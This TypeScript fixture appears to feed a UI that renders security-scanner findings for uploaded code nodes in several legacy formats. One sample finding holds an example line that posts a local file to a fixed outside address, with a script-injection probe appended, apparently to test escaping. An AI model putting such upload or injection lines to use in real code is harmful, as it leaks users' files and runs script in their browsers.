const finding = {
  issue_type: 'python_command_injection_risk',
  scanner: 'yara_scan',
  severity: 'info',
  description: 'Python code starts another program.',
  file_path: 'nodes/encode.py',
  line_number: 112,
  line_snippet: 'subprocess.run(["ffmpeg", "-y", "-i", source, target], check=True)',
  admin_tags: ['any-code-execute'],
  recommendation: null,
  metadata: { confidence: 95, matched_patterns: ['$subprocess_run_direct'], yara_matches: [] },
}

const criticalFinding = {
  issue_type: 'hidden_network_upload',
  scanner: 'yara_scan',
  severity: 'critical',
  description: 'A file is sent to a fixed address.',
  file_path: 'nodes/<b>upload</b>.py',
  line_number: -1,
  line_snippet:
    "requests.post('https://collector.example.org', files={'f': open(path, 'rb')}) # </script><script>alert(1)",
  admin_tags: ['any-network-requests'],
  recommendation: 'Ask before anything is sent.',
}

/** Key names of an older scanner. */
const olderFindings = [
  {
    error_type: 'eval_use',
    file: 'nodes/math.py',
    line: 31,
    code_snippet: 'eval(expression)',
    message: 'eval is called.',
  },
  {
    type: 'python_network_operations',
    path: 'fetch.py',
    line: 'requests.get(url, timeout=10)',
    message: 'A request is made.',
  },
  { type: 'exec_use', filename: 'install.py', content: 'exec(open("setup.txt").read())' },
]

/** The oldest format: hits are nested in each file. */
const oldestFindings = [
  {
    type: 'suspicious_strings',
    matches: [
      {
        filepath: 'web/panel.js',
        strings: [
          {
            identifier: '$inner_html',
            instances: [
              {
                line_number: 7,
                line: 'panel.innerHTML = reply',
                matched_data: 'innerHTML',
                matched_length: 9,
                offset: 311,
              },
              {
                line_number: 19,
                line: 'row.innerHTML += name',
                matched_data: 'innerHTML',
                matched_length: 9,
                offset: 740,
              },
            ],
          },
        ],
      },
    ],
  },
]

const manyFindings = Array.from({ length: 240 }, (_, i) => ({
  ...finding,
  file_path: `vendor/part_${i % 12}/module_${i}.py`,
  line_number: 10 + i,
}))

const json = JSON.stringify

/** Every known format of `status_reason`. */
export const reasons = {
  empty: '',
  clean: 'Passed automated checks',
  findings: json([finding, criticalFinding]),
  olderFindings: json(olderFindings),
  oldestFindings: json(oldestFindings),
  many: json(manyFindings),
  unknownFindings: json([{ verdict: 'odd' }, 'a sentence', null, 7]),
  brokenJson: '[{"issue_type":"cut_off","file_path":"nodes/a.',
  review: json({ message: 'Looked at every hit: the arguments are fixed.', by: 'ada@example.org' }),
  history: json({
    message: 'Uploads files without asking.',
    by: 'ada@example.org',
    statusHistory: [
      { status: 'NodeVersionStatusPending', message: '' },
      {
        status: 'NodeVersionStatusFlagged',
        message: json([finding, criticalFinding]),
        by: 'system@example.org',
      },
      { status: 'NodeVersionStatusActive', message: 'Harmless at first sight.', by: 'ola@example.org' },
    ],
    batchId: '4f1c09aa',
  }),
  undone: json({ message: json([finding]), by: 'ada@example.org', statusHistory: [], batchId: '4f1c09aa' }),
} as const
